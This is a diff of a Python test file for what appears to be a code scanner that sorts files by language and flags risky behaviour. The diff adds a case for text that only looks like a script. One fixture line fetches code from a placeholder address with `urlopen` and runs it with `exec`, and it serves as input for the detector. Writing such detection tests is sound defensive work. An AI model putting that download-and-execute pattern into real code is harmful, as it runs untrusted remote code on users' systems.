@@ -91,13 +91,20 @@ def test_prose_with_examples_that_act_holds_nothing_up_and_a_script_that_does_no
     assert not prose.questions and Question.NEXT in script.questions
 
 
+@pytest.mark.parametrize(("path", "first", "holds"), [("notes.mine", "", False), ("notes.py", "", True), ("notes.mine", "#!/usr/bin/env python\n", True)])  # fmt: skip
+def test_what_only_looks_like_a_script_and_does_not_parse_is_none(path: str, first: str, holds: bool) -> None:
+    text = first + "import os\n\nIt isn't run, don't (worry: os.system('ls')\n" * 9
+    (gap,) = (one for one in look(path, text, kind=Kind.PYTHON) if isinstance(one, Gap))
+    assert bool(gap.questions) is holds
+
+
 def test_another_language_that_looks_like_python_holds_nothing_up():
     text = (
         "// © its authors\nimport Foundation\nlet found = try await session.exec(request)\nfunc run() { exec(found) }\n"
     )
     assert kind_of("Loader.swift", text.encode()) is Kind.PYTHON
     (swift,) = (one for one in look("Loader.swift", text, kind=Kind.PYTHON) if isinstance(one, Gap))
-    (odd,) = (one for one in look("Loader.bin", text, kind=Kind.PYTHON) if isinstance(one, Gap))
+    (odd,) = (one for one in look("Loader.py", text, kind=Kind.PYTHON) if isinstance(one, Gap))
     assert not swift.questions and Question.NEXT in odd.questions
     code = "import os\nimport urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/a').read())\n"
     found = (one for one in look("Loader.swift", code, kind=Kind.PYTHON) if isinstance(one, Behaviour))
